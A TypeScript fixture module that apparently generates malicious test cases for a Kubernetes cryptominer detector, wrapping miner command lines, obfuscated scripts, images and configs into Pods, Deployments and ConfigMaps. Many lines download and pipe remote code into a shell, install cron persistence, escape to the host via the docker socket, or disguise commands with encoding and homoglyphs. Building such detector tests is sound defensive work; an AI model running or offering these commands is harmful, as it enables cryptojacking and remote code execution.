import { CARRIERS, DISGUISES, SCRIPT_CARRIERS } from './carriers.ts';
import { EVASIONS } from './evasions.ts';
import { BTC, DOGE, ETH, KASPA, XMR, XMR_SUB } from './wallets.ts';

/** Command lines of miners, by family; the program is renamed where only its arguments should tell. */
const COMMAND_LINES: Record<string, string> = {
  'xmrig, plain': `xmrig -o pool.supportxmr.com:443 -u ${XMR} -k --tls -p x`,
  'xmrig, renamed': `/usr/local/bin/app -o gulf.moneroocean.stream:10128 -u ${XMR} -p x --donate-level 1`,
  'xmrig, config only': '/opt/xmrig/xmrig --config=/etc/c.json',
  'xmrig, glued values': `./svc -omine.example.net:3333 -u${XMR} -px`,
  'xmrig, long with =': `./svc --url=10.1.2.3:3333 --user=${XMR_SUB} --pass=x --algo=rx/0`,
  'xmrig, prefixes': './svc --url 185.12.1.9:3333 --use w --pass x --dona 0',
  'xmrig, private proxy': './svc -o 91.92.240.10:8080 -u node1 -p x -k --cpu-max-threads-hint=75',
  'xmrig, solo': `./svc -o node.example.net:18081 --daemon --coin monero -u ${XMR}`,
  'xmrig, sha and randomx flags': './svc -c /c.json --randomx-1gb-pages --randomx-wrmsr=6',
  'xmrig, unmineable': `./svc -a rx/0 -o rx.unmineable.com:3333 -u DOGE:${DOGE}.rig#abcd-1234 -p x`,
  minerd: `minerd -a cryptonight -o stratum+tcp://xmr.pool.example.org:5555 -u ${XMR} -p x -t 4`,
  'cpuminer-opt, renamed':
    './node-agent -a yespowerr16 -o stratum+tcp://eu.example.org:6234 -u WALLETNAME.rig -p c=YTN',
  'cpuminer, userpass': './node-agent -a lyra2z -o stratum+tcp://eu.example.org:6234 -O someone:c=BTC',
  ccminer: './gpu-agent -a verus -o stratum+tcp://na.luckpool.net:3956 -u RAddressName.rig -p x -t 8',
  't-rex': `./t-rex -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u wallet.rig -p x`,
  't-rex, renamed': './train -a autolykos2 -o pool.example.org:8888 -u someone.rig -p x --intensity 22',
  'srbminer-multi': `SRBMiner-MULTI --disable-gpu --algorithm randomx --pool xmr.example.org:3333 --wallet ${XMR}`,
  'srbminer, renamed, two algorithms': `./worker --algorithm verushash;randomx --pool a.example.org:1!b.example.org:2 --wallet R${'a'.repeat(3)};${XMR}`,
  lolminer: `./lolMiner --algo ETHASH --pool etc.2miners.com:1010 --user ${ETH}.rig`,
  'lolminer, renamed':
    './render --algo AUTOLYKOS2 --pool erg.example.org:8888 --user someone.rig --ethstratum ETHPROXY',
  gminer: './render --algo kawpow --server rvn.example.org --port 6060 --user wallet.rig --pass x',
  'gminer, known pool': `./render --algo ethash --server etc.2miners.com --port 1010 --user ${ETH}`,
  nbminer: './nbminer -a kawpow -o stratum+tcp://rvn.example.org:6060 -u wallet.rig -log',
  'nbminer, renamed': './render -a octopus -o nicehash+tcp://octopus.example.org:3389 -u someone.rig',
  teamredminer: `./teamredminer -a kawpow -o stratum+tcp://rvn.example.org:6060 -u wallet.rig -p x`,
  'teamredminer, renamed':
    './render -a autolykos2 -o stratum+ssl://erg.example.org:9000 -u w.rig -p x --eth_config=B700',
  ethminer: `./ethminer -G -P stratum1+tcp://${ETH}.rig@eth.example.org:4444`,
  'ethminer, renamed': `./render -U -P stratum2+ssl://${ETH}.rig@eth.example.org:5555 --farm-recheck 200`,
  'phoenixminer, renamed': `./render -pool ssl://etc.example.org:5555 -wal ${ETH}.rig -coin etc`,
  claymore: `./render -epool eth.example.org:4444 -ewal ${ETH} -epsw x -esm 1 -allpools 1`,
  nanominer: 'nanominer /etc/config.ini',
  'xmr-stak': `./svc --currency monero -o xmr.example.org:3333 -u ${XMR} -p x --noNVIDIA`,
  teamblackminer: `./TBMiner --algo etchash --hostname etc.example.org --port 1010 --wallet ${ETH} --worker-name r`,
  'bzminer, renamed': `./render -a kaspa -w ${KASPA} -p stratum+tcp://kas.example.org:5555`,
  'bzminer, no scheme': `./bzminer -a kaspa -w ${KASPA} -p kas.example.org:5555`,
  'rigel, renamed': './render -a kheavyhash -o stratum+tcp://kas.example.org:5555 -u w -w rig --no-tui',
  hellminer: 'hellminer -c stratum+tcp://eu.luckpool.net:3956#xnsub -u RAddress.rig -p x --cpu 4',
  'verus-solver, renamed': './solve -v -l eu.luckpool.net:3956 -u RAddress.rig -t 8',
  'dero-miner, renamed':
    './solve --daemon-rpc-address=dero.example.org:10100 --wallet-address=dero1abc --mining-threads=4',
  'kaspa-miner, renamed': `./solve --mining-address ${KASPA} --kaspad-address 10.0.0.9 --threads 8`,
  astrominer: './astrominer -w dero1qy -r community-pools.mysrv.cloud:10300 -m 8',
  'monerod that mines': `monerod --start-mining ${XMR} --mining-threads 4`,
  kinsing: '/tmp/kdevtmpfsi',
  nicehash: `./svc -a sha256 -o stratum+tcp://sha256.auto.nicehash.com:9200 -u ${BTC}.rig -p x`,
  'ethproxy scheme': './svc -o ethproxy+ssl://etc.example.org:1010 -u w.r',
};

/** Scripts that mine or bring a miner. */
const SCRIPTS: Record<string, string> = {
  plain: `xmrig -o pool.supportxmr.com:3333 -u ${XMR} -p x`,
  'split by quotes': `x""mr'i'g -o "po"ol.sup'port'xmr.com:3333 -u ${XMR}`,
  'split by backslashes': `x\\mr\\ig --co\\nfig /c.json`,
  'folded variables': `A=xm; B=rig; C=pool.supportxmr; $A$B -o $C.com:443 -u ${XMR}`,
  'defaults of variables': `./a -o \${POOL:-stratum+tcp://mine.example.org:3333} -u \${W:=${XMR}}`,
  'ansi-c quoting': `$'\\x78\\x6d\\x72\\x69\\x67' -c /c.json`,
  reversed: `$(echo girmx | rev) -o a.example.org:3333`,
  rot13: `echo 'kzevt -b n.rknzcyr.bet:3333' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`,
  'printf octal': `printf '\\170\\155\\162\\151\\147 -c x' | sh`,
  hexadecimal: `echo 786d726967202d6f2061 | xxd -r -p | bash`,
  array: `run=(./k -o a.example.org:3333 -u ${XMR}); "\${run[@]}"`,
  function: `go() { $1 -o $2 -u $3 -p x; }; go ./k a.example.org:3333 ${XMR}`,
  'loop over pools': `for p in a.example.org:3333 b.example.org:3333; do ./k -o $p -u ${XMR}; done`,
  'endless loop': `while true; do /opt/app -a rx/0 -o 10.0.0.5:3333 -u x -p x; sleep 5; done`,
  wrapped: `nohup setsid nice -n 19 timeout 1h ./k -o stratum+ssl://a.example.org:443 -u w >/dev/null 2>&1 &`,
  'release from GitHub':
    'wget -qO- https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz && ./xmrig-6.21.0/xmrig -c c.json',
  'built from source':
    'git clone https://github.com/xmrig/xmrig.git && mkdir b && cd b && cmake ../xmrig && make && mv xmrig /usr/bin/java && java -c /c.json',
  package: 'apk add --no-cache xmrig && exec xmrig --config /c.json',
  'settings written': `cat > /etc/c.json <<EOF
{ "autosave": true, "cpu": true, "pools": [ { "url": "a.example.org:443", "user": "${XMR}", "tls": true } ], "donate-level": 0 }
EOF
/usr/bin/app -c /etc/c.json`,
  'piped from an address': 'curl -fsSL http://185.220.101.7/init.sh | bash',
  'piped from an address, wget':
    '(wget -qO- http://194.38.20.31:8080/k.sh || curl -s http://194.38.20.31:8080/k.sh) | sh',
  'process substitution': 'bash <(curl -s http://45.9.148.35/d)',
  substituted: 'sh -c "$(curl -s http://45.9.148.35/d)"',
  evaluated: 'X=$(curl -s http://45.9.148.35/d); eval "$X"',
  paste: 'curl -s https://pastebin.com/raw/Ab12Cd34 | tr -d "\\r" | bash',
  'file drop': 'wget -q https://transfer.sh/get/abc/k -O /tmp/k; chmod 777 /tmp/k; /tmp/k',
  dropper: 'cd /tmp; curl -O http://94.103.87.71/kworker; chmod +x kworker; ./kworker >/dev/null 2>&1 &',
  'hidden dropper':
    'wget http://94.103.87.71/x -O /dev/shm/.x; chmod +x /dev/shm/.x; nohup /dev/shm/.x >/dev/null 2>&1 &',
  archive: 'cd /var/tmp && wget http://94.103.87.71/m.tgz && tar xzf m.tgz && ./m/run >/dev/null 2>&1 &',
  cron: 'echo "*/5 * * * * curl -s http://94.103.87.71/x | sh" | crontab -',
  'cron file': 'echo "* * * * * root wget -qO- http://94.103.87.71/x | sh" > /etc/cron.d/zz',
  'rivals killed': 'pkill -f kdevtmpfsi; pkill xmrig; curl -s http://94.103.87.71/x | bash',
  'kernel thread': `exec -a '[kworker/u8:1]' ./k -o a.example.org:3333 -u w -p x`,
  'brace words': '{curl,-s,http://45.9.148.35/d}|sh',
  IFS: 'curl${IFS}-s${IFS}http://45.9.148.35/d|sh',
  'decimal address': 'curl -s http://3116799236/d | sh',
  'dev tcp':
    'exec 3<>/dev/tcp/45.9.148.35/80; printf "GET /x HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3 > /tmp/x; chmod +x /tmp/x; /tmp/x',
  xargs: `echo "-o a.example.org:3333 -u ${XMR}" | xargs ./k`,
  find: `find / -name k -exec {} -o a.example.org:3333 -u ${XMR} \\;`,
  'docker socket': `docker -H unix:///var/run/docker.sock run -d --privileged metal3d/xmrig -o a.example.org:3333 -u ${XMR}`,
  kubectl: 'kubectl run job --image=kannix/monero-miner -- -o a.example.org:3333',
  chroot: 'chroot /host bash -c "curl -s http://45.9.148.35/d | sh"',
  c3pool: `curl -s -L https://download.c3pool.org/xmrig_setup/raw/master/setup_c3pool_miner.sh | bash -s ${XMR}`,
  'python urllib': `python3 -c 'import urllib.request as u; exec(u.urlopen("http://45.9.148.35/d.py").read())'`,
  node: `node -e 'require("child_process").spawn("/tmp/xmrig", ["-o", "a.example.org:3333"])'`,
  perl: `perl -e 'exec "/opt/k", "-o", "stratum+tcp://a.example.org:3333", "-u", "w"'`,
  'stratum by hand': `echo '{"id":1,"method":"mining.subscribe","params":[]}' | nc 45.9.148.35 3333`,
  'full-width letters': `ｘｍｒｉｇ -c /c.json`,
  'Cyrillic letters': `хmrіg -c /c.json`,
  'zero-width space': `xm\u200brig -c /c.json`,
  'upper case': `./k -o STRATUM+TCP://A.EXAMPLE.ORG:3333 -u w`,
  'behind padding': `${'true; # nothing to see here\n'.repeat(900)}xmrig -c /c.json`,
};

const IMAGES = [
  'metal3d/xmrig',
  'docker.io/miningcontainers/xmrig:6.21.0',
  'ghcr.io/someone/xmrig-alpine@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
  'registry.example.com:5000/tools/ccminer:cuda12',
  'someone/docker-ethminer',
  'someone/monero-miner:latest',
  'someone/XMRig',
  'quay.io/someone/cpuminer-opt',
  'pauseyyf/pause',
  'someone/tools:xmrig-6.21.0',
  'someone/lolminer',
  'someone/srbminer-multi',
  'someone/t-rex-miner',
  'someone/kinsing',
  'docker.io/rcmelendez/xmrig:6.16.4',
  'someone/nanominer',
  'someone/xmr-stak-cpu',
  'someone/p2pool-xmrig',
];

/** Environments of images that wrap a miner under another name. */
const ENVIRONMENTS: Record<string, Record<string, string>> = {
  'pool by scheme': { SERVER: 'stratum+tcp://a.example.org:3333', NAME: 'x' },
  'known pool': { POOL_URL: 'pool.hashvault.pro:443', WALLET: 'x' },
  'pool and wallet': { POOL_HOST: 'a.example.org:3333', WALLET_ADDRESS: XMR },
  'pool and algorithm': { MINING_POOL: 'a.example.org:14444', ALGO: 'rx/0', WORKER: 'w' },
  'wallet and algorithm': { ALGORITHM: 'kawpow', WALLET_ADDRESS: 'RAbc', POOL: 'x' },
  xmrig: { XMRIG_URL: 'a.example.org:80', XMRIG_USER: 'x' },
  arguments: { ARGS: `-o a.example.org:3333 -u ${XMR} -p x` },
  'arguments with marks': { EXTRA: '--donate-level 0 --cpu-max-threads-hint 80' },
};

const FILES: Record<string, Record<string, string>> = {
  xmrig: {
    'config.json': JSON.stringify({
      autosave: true,
      'donate-level': 1,
      cpu: { enabled: true, 'huge-pages': true },
      pools: [{ url: 'a.example.org:443', user: XMR, pass: 'x', tls: true }],
    }),
  },
  'xmrig with comments': {
    'settings.json': `// settings\n{ "randomx": { "1gb-pages": true, "wrmsr": true, "rdmsr": true }, "donate-level": 0, "pools": [] }`,
  },
  cpuminer: {
    'conf.json': `{"url":"stratum+tcp://a.example.org:3333","user":"w","pass":"x","algo":"yescrypt"}`,
  },
  'xmr-stak': {
    'pools.txt': `"pool_list" : [ {"pool_address" : "a.example.org:3333", "wallet_address" : "${XMR}", "rig_id" : "", "pool_password" : "x", "use_nicehash" : false}, ],\n"currency" : "monero",`,
  },
  nanominer: { 'config.ini': `[RandomX]\nwallet = ${XMR}\nrigName = r1\npool1 = a.example.org:14433\n` },
  't-rex': {
    t: `{"pools":[{"user":"w","url":"stratum+tcp://a.example.org:6060","pass":"x"}],"algo":"kawpow"}`,
  },
  yaml: { 'app.yaml': `pool: stratum+ssl://a.example.org:443\nwallet: ${XMR}\nthreads: 4\n` },
  supervisord: { 'supervisord.conf': `[program:app]\ncommand=/usr/bin/xmrig -c /c.json\nautorestart=true\n` },
  systemd: { 'app.service': `[Service]\nExecStart=/opt/app -o stratum+tcp://a.example.org:3333 -u w\n` },
  crontab: { crontab: '*/10 * * * * curl -s http://94.103.87.71/x | sh\n' },
  python: {
    'main.py': `import subprocess\nsubprocess.Popen(["/tmp/k", "-o", "stratum+tcp://a.example.org:3333"])\n`,
  },
  'no extension': { start: `cd /opt\n./k -o a.example.org:3333 -u ${XMR} -p x\n` },
};

export function maliciousCases(): { name: string; object: object }[] {
  const cases: { name: string; object: object }[] = [];
  for (const [family, line] of Object.entries(COMMAND_LINES)) {
    const argv = line.split(' ');
    for (const [carrier, carry] of Object.entries(CARRIERS))
      cases.push({ name: `${family}; ${carrier}`, object: carry(argv) });
    cases.push({
      name: `${family}; arguments only`,
      object: { kind: 'Pod', spec: { containers: [{ name: 'a', image: 'someone/app', args: argv }] } },
    });
  }
  for (const [trick, script] of Object.entries(SCRIPTS)) {
    for (const [carrier, carry] of Object.entries({ ...SCRIPT_CARRIERS, ...DISGUISES })) {
      cases.push({ name: `${trick}; ${carrier}`, object: carry(script) });
    }
  }
  for (const image of IMAGES) {
    for (const [carrier, carry] of Object.entries(CARRIERS)) {
      if (!/hook|probe/.test(carrier))
        cases.push({ name: `image ${image}; ${carrier}`, object: carry([], image) });
    }
  }
  for (const [name, env] of Object.entries(ENVIRONMENTS)) {
    const list = Object.entries(env).map(([key, value]) => ({ name: key, value }));
    cases.push({
      name: `environment, ${name}`,
      object: {
        kind: 'Deployment',
        spec: { template: { spec: { containers: [{ name: 'a', image: 'a/b', env: list }] } } },
      },
    });
  }
  for (const [name, data] of Object.entries(FILES)) {
    cases.push({
      name: `file, ${name}`,
      object: { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'c' }, data },
    });
  }
  for (const [name, object] of Object.entries(EVASIONS)) cases.push({ name, object });
  return cases;
}
